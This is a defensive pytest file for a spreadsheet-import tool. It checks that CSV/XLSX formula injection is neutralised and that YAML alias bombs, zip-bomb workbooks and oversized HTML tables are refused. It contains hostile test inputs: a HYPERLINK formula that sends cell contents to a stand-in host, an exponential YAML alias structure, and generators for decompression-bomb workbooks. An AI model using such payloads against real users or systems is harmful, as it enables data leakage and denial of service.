"""Files made to harm: formulas in headers, mappings and workbooks that explode once they are read."""

from __future__ import annotations

import io
import time
import tracemalloc

import pytest
from openpyxl import load_workbook

from liangfa_enforcement_record.importing import open_table
from liangfa_enforcement_record.importing.mapping import Mapping
from liangfa_enforcement_record.importing.refusals import TableRefused
from liangfa_enforcement_record.importing.rejects import inert, rejects_csv, write_rejects_xlsx
from liangfa_enforcement_record.importing.rows import suggestion_for
from tests.unit.enforcement_record.importing.files import (
    CASE,
    NAMES,
    csv_bytes,
    outcomes_of,
    row_of,
    with_member,
    xlsx_bytes,
)

EVIL = '=HYPERLINK("http://x.invalid/"&A2)'
BAD = (*row_of(处罚决定日期="2017-02-30"), "x")
SHEET = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
END = b"</sheetData></worksheet>"


@pytest.mark.parametrize("name", [EVIL, "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＠SUM(A1)", "\t=1+1"])
def test_no_header_of_the_file_of_rejected_rows_is_run(name: str) -> None:
    """What a table calls its columns is as hostile as what it puts into them."""
    outcomes = outcomes_of(csv_bytes([(*NAMES, name), BAD]))
    text = b"".join(rejects_csv(outcomes)).decode("utf-8-sig")
    (shown,) = [cell.strip('"') for cell in text.split("\r\n")[0].replace('""', '"').split(",")[len(NAMES) :][:1]]
    assert shown.startswith("'")
    buffer = io.BytesIO()
    write_rejects_xlsx(outcomes, buffer)
    sheet = load_workbook(buffer).worksheets[0]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}


def test_a_guarded_header_is_known_again_when_the_file_comes_back() -> None:
    """The apostrophe before a header does not make it another column."""
    content = b"".join(rejects_csv(outcomes_of(csv_bytes([(*NAMES, EVIL), BAD]))))
    table = open_table(io.BytesIO(content.replace(b"2017-02-30", b"2017-02-28")), "t")
    _header, suggestion = suggestion_for(table)
    assert {column.field for column in suggestion.columns} >= {"party_name", "decided_on", "cause"}


@pytest.mark.parametrize("cell", ["＝1+1", "＋1", "－1+2", "＠x"])
def test_full_width_signs_are_guarded_too(cell: str) -> None:
    """Chinese spreadsheets take them for formulas."""
    assert inert(cell) == f"'{cell}"


@pytest.mark.timeout(60)
@pytest.mark.parametrize("place", ["constants", "field", "layout"])
def test_a_mapping_of_aliases_that_grow_without_end_is_refused(place: str) -> None:
    """A few hundred bytes that would be told as a thousand million."""
    lines = ["a0: &a0 [x,x,x,x,x,x,x,x,x,x]"]
    lines += [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    ends = {
        "constants": "columns: {行政相对人名称: party_name}\nconstants: {agency_name: *a9}",
        "field": "columns: {行政相对人名称: *a9}",
        "layout": "columns: {行政相对人名称: party_name}\nlayout: *a9",
    }
    with pytest.raises(TableRefused) as refused:
        Mapping.from_yaml("\n".join([*lines, ends[place]]))
    assert refused.value.reason == "MAPPING_INVALID"


def bombs() -> dict[str, bytes]:
    """Return small workbooks that would take hundreds of megabytes once parsed."""
    good = xlsx_bytes(("表", [NAMES, CASE]))
    cells = SHEET + b"<row>" + b"<c/>" * 6_000_000 + b"</row>" + END
    junk = SHEET + b"<x/>" * 6_000_000 + END
    styles = b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>'
    styles += b"<xf/>" * 6_000_000 + b"</cellXfs></styleSheet>"
    return {
        "cells of one row": with_member(good, "xl/worksheets/sheet1.xml", cells),
        "elements that are no rows": with_member(good, "xl/worksheets/sheet1.xml", junk),
        "styles": with_member(good, "xl/styles.xml", styles),
    }


@pytest.mark.timeout(120)
@pytest.mark.parametrize("kind", ["cells of one row", "elements that are no rows", "styles"])
def test_a_workbook_that_explodes_in_the_parser_is_refused_before_it_does(kind: str) -> None:
    """Some tens of kilobytes packed, some tens of megabytes unpacked, and millions of elements."""
    content = bombs()[kind]
    assert len(content) < 200_000
    tracemalloc.start()
    began = time.monotonic()
    with pytest.raises(TableRefused) as refused:
        list(open_table(io.BytesIO(content), "t.xlsx").rows())
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert refused.value.reason == "FILE_ZIP_BOMB"
    assert peak < 40_000_000
    assert time.monotonic() - began < 60


def test_a_page_of_millions_of_tags_is_refused() -> None:
    """An HTML table is held in memory whole, so its elements are counted first."""
    content = b"<html><table><tr><td>x</td></tr>" + b"<b/>" * 4_100_000 + b"</table></html>"
    with pytest.raises(TableRefused) as refused:
        list(open_table(io.BytesIO(content), "t.xls").rows())
    assert refused.value.reason == "FILE_TOO_LARGE"
